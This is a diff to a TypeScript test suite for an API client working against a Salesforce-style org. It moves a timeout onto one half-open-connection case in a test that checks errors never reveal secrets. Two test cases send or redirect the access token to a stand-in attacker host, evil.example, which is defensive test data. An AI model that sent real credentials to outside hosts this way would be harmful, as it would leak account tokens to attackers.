@@ -53,9 +53,8 @@ const READ: OrgRequest = {
   method: "GET",
   path: "/query",
   query: { q: "SELECT Id FROM Lead" },
-  timeoutMs: 60,
 };
-const WRITE: OrgRequest = { method: "POST", path: "/sobjects/Lead", json: {}, timeoutMs: 60 };
+const WRITE: OrgRequest = { method: "POST", path: "/sobjects/Lead", json: {} };
 
 let org: ScriptedOrg;
 beforeAll(async () => {
@@ -125,7 +124,8 @@ test("no error of any kind shows a secret, and nothing is logged", async () => {
     [[json(200, {})], READ, { budget: callBudget({ max: 0 }) }],
     [[dropped], READ],
     [[dropped], WRITE],
-    [[halfOpen], WRITE],
+    // Short only here: on a busy machine any other answer could come later than that, and be asked for once more.
+    [[halfOpen], { ...WRITE, timeoutMs: 60 }],
     [[cutOff("application/json", "{", true)], READ],
     [[text(302, "text/html", "", { location: `https://evil.example/?t=${SECRETS.accessToken}` })], READ],
     [[json(200, {})], { method: "GET", path: `https://evil.example/?t=${SECRETS.accessToken}` }],
